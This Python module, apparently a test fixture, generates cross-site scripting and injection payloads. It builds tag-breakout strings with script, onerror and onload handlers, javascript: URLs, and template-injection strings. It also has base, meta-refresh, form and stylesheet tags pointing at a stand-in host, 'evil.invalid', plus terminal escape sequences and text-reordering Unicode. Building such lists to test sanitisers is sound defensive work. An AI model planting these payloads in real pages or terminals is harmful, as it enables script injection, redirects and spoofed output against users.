"""Strings that attack: scripts, attributes, broken markup, terminal escapes, characters that reorder."""

from __future__ import annotations

from itertools import product
from typing import Final

_CALLS: Final = ("alert(1)", "window.hit=1", "document.title='hit'", "fetch('https://evil.invalid/')")
_CLOSERS: Final = (
    "",
    '">',
    "'>",
    "</p>",
    "</script>",
    "</style>",
    "</title>",
    "-->",
    "]]>",
    "</textarea>",
    "` ",
    "&quot;>",
    "</bdi></a></span>",
)
_OPENERS: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
)
OTHERS: Final = (
    "</script><img onerror=window.hit=1 src=x>",
    "]]>",
    "<!--",
    "--><b>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1//http://x",
    "data:text/html,<script>window.hit=1</script>",
    "' onmouseover='window.hit=1",
    '" autofocus onfocus="window.hit=1',
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<form action=https://evil.invalid><input autofocus>",
    "<iframe src=javascript:parent.hit=1>",
    "<style>@import 'https://evil.invalid/';*{display:none}</style>",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "\x9b31m\x9d0;owned\x9c",
    "a\x08\x08b\x7f\x00c\x0d\x0bd",
    "\u202eevil\u202c \u2066x\u2067y\u2068z\u2069 \u200f\u061c",
    "[bold red]markup[/] [link=https://evil.invalid]x[/link] :warning:",
    "מילים בעברית עם (סוגריים) 12",
    "قال المتحدث إن القرية آمنة",
    "👩🏽‍🚀👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇦🇽",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "e\u0301\u0327n\u0303",
    "half \ud83d of a pair \udc00",
    "x" * 300,
    "line\u2028separator\u2029paragraph\u0085next",
    "%s {0} {name} $name",
    "'\"<>&`",
)
PAYLOADS: Final[tuple[str, ...]] = (
    *(closer + opener.format(call) for closer, opener, call in product(_CLOSERS, _OPENERS, _CALLS)),
    *OTHERS,
)
